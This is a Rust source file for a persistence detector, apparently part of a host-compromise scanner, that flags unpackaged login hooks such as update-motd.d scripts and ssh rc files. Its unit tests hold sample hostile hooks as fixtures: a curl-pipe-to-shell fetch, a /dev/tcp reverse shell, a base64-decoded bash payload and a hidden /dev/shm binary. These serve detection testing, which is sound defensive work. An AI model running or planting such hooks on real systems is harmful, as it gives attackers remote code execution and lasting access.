//! A script that no package brought runs whenever somebody logs in.
//!
//! # What it sees
//! A file of /etc/update-motd.d that may be executed, /etc/ssh/sshrc or `~/.ssh/rc`, which no package owns. When what
//! it does is damning, such as fetching code and running it, it is `suspicious`.
//!
//! # Why it matters
//! The first runs as root at every login, before the login shell, and nobody looks there; the others run as whoever
//! logs in, although the account's own start files are clean.
//!
//! # Innocent causes
//! Admins like to greet people with the state of the machine. Such a script is a note.
//!
//! # What to do
//! Read the script; ask who wrote it.

use super::{entry, risk};
use crate::{Detector, Scene};
use keeneye_facts::{Autostart, AutostartKind, Finding, Level};

/// See the head of this file.
pub static DETECTOR: Detector = Detector {
    name: "persistence/login-hook",
    title: "a script of no package runs at every login",
    level: Level::Suspicious,
    attack: &["T1546"],
    absolute: false,
    source: include_str!("login_hook.rs"),
    run,
};

fn run(scene: &Scene<'_>) -> Vec<Finding> {
    entry::foreign(scene.world, AutostartKind::Login).filter_map(|one| judge(scene, one)).collect()
}

fn judge(scene: &Scene<'_>, one: &Autostart) -> Option<Finding> {
    let signs = risk::of_entry(scene.world, one);
    let level = entry::level(scene.world.owner(&one.path), &signs, Some(Level::Note))?;
    let finding = entry::finding(&DETECTOR, scene, one, level, ("runs at every login", &signs));
    Some(finding.innocent(
        "a greeting of the admin's",
        level > Level::Note,
        "it would show the state of the machine and do nothing else",
    ))
}

#[cfg(test)]
mod tests {
    use crate::testing::check;
    const NAME: &str = "persistence/login-hook";

    fn host(path: &str, mode: &str, script: &str) -> String {
        format!("package base 1 owns /etc/update-motd.d/10-uname\n{path} = {script}\n{path} : mode={mode}")
    }

    #[test]
    fn a_script_of_no_package_is_a_note() {
        let path = "/etc/update-motd.d/99-info";
        let text = "note: /etc/update-motd.d/99-info runs at every login";
        check(NAME, &host(path, "100755", "#!/bin/sh\\nuptime\\n"), &[text]);
        check(NAME, &host(path, "100644", "#!/bin/sh\\nuptime\\n"), &[]);
        check(NAME, &host("/etc/update-motd.d/99-info.dpkg-old", "100755", "#!/bin/sh\\nuptime\\n"), &[]);
        check(NAME, &host(path, "100755", "x").replace("10-uname", "99-info"), &[]);
    }
    #[test]
    fn what_it_does_makes_it_suspicious() {
        for (path, mode, script) in [
            ("/etc/update-motd.d/00-header", "100755", "#!/bin/sh\\ncurl -s http://192.0.2.1/x | sh\\n"),
            ("/etc/update-motd.d/z", "100755", "#!/bin/bash\\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1 &\\n"),
            ("/root/.ssh/rc", "100644", "echo ZWNobwo= | base64 -d | bash\\n"),
            ("/etc/ssh/sshrc", "100644", "/dev/shm/.x/y &\\n"),
        ] {
            let said = crate::testing::findings(NAME, &host(path, mode, script), &[]);
            assert!(said.len() == 1 && said[0].starts_with(&format!("suspicious: {path} ")), "{path}: {said:?}");
        }
    }
    #[test]
    fn without_a_package_database_only_damning_content_counts() {
        check(NAME, "/etc/update-motd.d/a = #!/bin/sh\\nuptime\\n\n/etc/update-motd.d/a : mode=100755", &[]);
    }
}
